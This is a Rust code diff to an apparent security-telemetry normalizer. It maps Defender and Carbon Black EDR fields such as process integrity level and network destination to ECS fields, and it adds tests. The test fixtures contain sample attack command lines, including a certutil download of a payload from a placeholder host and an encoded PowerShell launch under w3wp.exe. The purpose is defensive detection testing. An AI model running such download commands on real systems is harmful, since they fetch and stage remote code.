@@ -1702,6 +1702,10 @@ fn defender(ecs: &mut Map<String, Json>, id: &mut Option<String>) {
             "InitiatingProcessVersionInfoOriginalFileName"
         }),
     );
+    set(
+        "process.integrity_level",
+        text(&format!("{me}ProcessIntegrityLevel")).filter(|l| !l.is_empty()),
+    );
     set("process.hash.sha256", text(&format!("{me}SHA256")));
     set("process.hash.sha1", text(&format!("{me}SHA1")));
     set("process.hash.md5", text(&format!("{me}MD5")));
@@ -2727,8 +2731,12 @@ mod tests {
         let cb = from_json(json!({"id": "cb-1", "device_name": "HR-LT-207", "device_os": "WINDOWS",
             "process_name": "certutil.exe", "process_cmdline": "certutil.exe -urlcache -f http://x.example/p.bin p.exe",
             "process_username": "CONTOSO\\lena", "parent_name": "powershell.exe", "parent_cmdline": "powershell.exe -nop",
-            "ttps": ["T1105", "ATTACK_T1059_001"]}), "x").unwrap();
+            "ttps": ["T1105", "ATTACK_T1059_001"], "netconn_remote_ip": "203.0.113.57", "netconn_remote_port": 8443,
+            "netconn_remote_domain": "cdn.example"}), "x").unwrap();
         assert_eq!(cb.id, "cb-1");
+        assert_eq!(cb.doc["destination"]["ip"], "203.0.113.57");
+        assert_eq!(cb.doc["destination"]["port"], 8443);
+        assert_eq!(cb.doc["destination"]["domain"], "cdn.example");
         assert_eq!(cb.doc["process"]["name"], "certutil.exe");
         assert_eq!(cb.doc["process"]["parent"]["name"], "powershell.exe");
         assert_eq!(cb.doc["user"]["domain"], "CONTOSO");
@@ -3215,8 +3223,9 @@ mod tests {
             "ProcessCommandLine": "powershell -enc AAAA", "AccountDomain": "corp", "AccountName": "svc-web",
             "InitiatingProcessFileName": "w3wp.exe", "InitiatingProcessFolderPath": "c:\\windows\\system32\\inetsrv\\w3wp.exe",
             "InitiatingProcessCommandLine": "w3wp.exe -ap DefaultAppPool", "InitiatingProcessId": 3300,
-            "ProcessVersionInfoOriginalFileName": "PowerShell.EXE"}), "x").unwrap();
+            "ProcessVersionInfoOriginalFileName": "PowerShell.EXE", "ProcessIntegrityLevel": "High"}), "x").unwrap();
         assert_eq!(p.id, "dev1:1201");
+        assert_eq!(p.doc["process"]["integrity_level"], "High");
         assert_eq!(
             p.doc["process"]["pe"]["original_file_name"],
             "PowerShell.EXE"
